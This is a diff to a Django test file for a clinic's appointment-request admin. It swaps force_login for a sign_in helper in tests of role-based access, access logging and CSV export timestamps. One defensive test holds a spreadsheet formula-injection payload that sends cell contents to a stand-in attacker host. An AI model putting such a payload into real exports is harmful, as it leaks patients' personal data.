@@ -13,7 +13,7 @@ from django.utils import timezone
 
 from appointments.models import AppointmentAccessLog, AppointmentRequest
 from home.roles import EDITORS, FRONT_DESK, SITE_ADMINS
-from tests.conftest import make_user
+from tests.conftest import make_user, sign_in
 
 
 pytestmark = pytest.mark.django_db
@@ -33,7 +33,7 @@ def stored_request():
 def test_only_the_front_desk_and_site_admins_see_requests(client, stored_request):
     index = reverse("appointment_requests:index")
     editor = make_user("ed", EDITORS)
-    client.force_login(editor)
+    sign_in(client, editor)
     assert client.get(index).status_code in (302, 403)
     assert "Appointments" not in client.get(reverse("wagtailadmin_home")).content.decode()
     assert client.get(
@@ -41,7 +41,7 @@ def test_only_the_front_desk_and_site_admins_see_requests(client, stored_request
     ).status_code in (302, 403)
 
     for user in [make_user("desk", FRONT_DESK), make_user("boss", SITE_ADMINS)]:
-        client.force_login(user)
+        sign_in(client, user)
         response = client.get(index)
         assert response.status_code == 200
         assert "Pat Example" in response.content.decode()
@@ -51,7 +51,7 @@ def test_only_the_front_desk_and_site_admins_see_requests(client, stored_request
 def test_the_front_desk_marks_a_request_booked_and_cannot_add_one(
     client, front_desk, stored_request
 ):
-    client.force_login(front_desk)
+    sign_in(client, front_desk)
     edit = reverse("appointment_requests:edit", args=[stored_request.pk])
     page = client.get(edit).content.decode()
     assert "Pat Example" in page and "(312) 555-0190" in page  # read-only details
@@ -64,7 +64,7 @@ def test_the_front_desk_marks_a_request_booked_and_cannot_add_one(
 
 
 def test_every_look_at_a_request_is_in_the_access_log(client, front_desk, stored_request):
-    client.force_login(front_desk)
+    sign_in(client, front_desk)
     client.get(reverse("appointment_requests:inspect", args=[stored_request.pk]))
     client.get(reverse("appointment_requests:index"))
     export = client.get(reverse("appointment_requests:index") + "?export=csv")
@@ -81,7 +81,7 @@ def test_every_look_at_a_request_is_in_the_access_log(client, front_desk, stored
     assert all(entry.at <= timezone.now() for entry in log)
 
     # Site admins read the log; nobody edits it.
-    client.force_login(make_user("boss", SITE_ADMINS))
+    sign_in(client, make_user("boss", SITE_ADMINS))
     listing = client.get(reverse("appointment_access_log:index"))
     assert listing.status_code == 200 and "desk" in listing.content.decode()
     entry = log.first()
@@ -93,7 +93,7 @@ def test_every_look_at_a_request_is_in_the_access_log(client, front_desk, stored
         302,
         403,
     )
-    client.force_login(front_desk)
+    sign_in(client, front_desk)
     assert client.get(reverse("appointment_access_log:index")).status_code in (302, 403)
 
 
@@ -138,7 +138,7 @@ def test_exports_say_what_the_admin_shows_in_the_clinics_time(client, front_desk
     AppointmentRequest.objects.filter(pk=stored_request.pk).update(
         created_at=received, status="contacted"
     )
-    client.force_login(front_desk)
+    sign_in(client, front_desk)
     export = client.get(reverse("appointment_requests:index") + "?export=csv")
     rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
     row = dict(zip(rows[0], rows[1], strict=True))
@@ -148,7 +148,7 @@ def test_exports_say_what_the_admin_shows_in_the_clinics_time(client, front_desk
     # 13:05 UTC is 9:05 in New York in July (daylight saving time), to the minute.
     assert row["Received"] == "2026-07-14 09:05"
 
-    client.force_login(make_user("boss", SITE_ADMINS))  # site admins read the access log
+    sign_in(client, make_user("boss", SITE_ADMINS))  # site admins read the access log
     log = client.get(reverse("appointment_access_log:index") + "?export=csv")
     rows = list(csv.reader(io.StringIO(b"".join(log.streaming_content).decode())))
     assert rows[0] == ["At", "Username", "Action", "Request number"]
@@ -161,7 +161,7 @@ def test_a_patients_words_never_become_a_formula_in_the_csv_export(
 ):
     attack = '=HYPERLINK("https://evil.example/?d="&C2&D2,"Call back")'
     AppointmentRequest.objects.filter(pk=stored_request.pk).update(name=attack, phone="+1 555 0100")
-    client.force_login(front_desk)
+    sign_in(client, front_desk)
     export = client.get(reverse("appointment_requests:index") + "?export=csv")
     rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
     row = dict(zip(rows[0], rows[1], strict=True))
